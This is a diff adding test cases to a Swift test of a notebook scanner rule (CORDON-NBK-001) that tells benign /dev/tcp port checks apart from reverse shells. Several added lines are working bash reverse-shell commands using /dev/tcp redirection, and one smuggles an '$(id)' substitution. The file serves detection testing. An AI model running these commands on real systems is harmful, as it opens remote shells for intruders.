@@ -70,6 +70,10 @@ struct NotebookTests {
             ("!for p in 1 2; do echo > /dev/tcp/h/$p && echo open; done", false), ("!echo > /dev/tcp/h/22 2>&1", false),
             ("!timeout 3 bash -c 'echo > /dev/tcp/127.0.0.1/80' 2>&1 && echo ok", false),
             ("!until (: > /dev/tcp/db/5432); do sleep 1; done", false),
+            ("!if (exec 3<>\"/dev/tcp/127.0.0.1/$port\") 2>/dev/null; then echo open; fi", false),
+            ("!(exec 3<>/dev/tcp/h/22; sh <&3)", true), ("!(exec sh <>/dev/tcp/h/22)", true),
+            ("!(exec 3<>/dev/tcp/h/22$(id))", true), ("!(exec 3<>/dev/tcp/h/22); sh < /dev/tcp/h/22", true),
+            ("!timeout 1 bash -c 'cat < /dev/null > /dev/tcp/h/22'", false),
         ])
     func sockets(_ command: String, _ isShell: Bool) {
         #expect(findings(notebook(command)).contains { $0.ruleID == "CORDON-NBK-001" } == isShell)
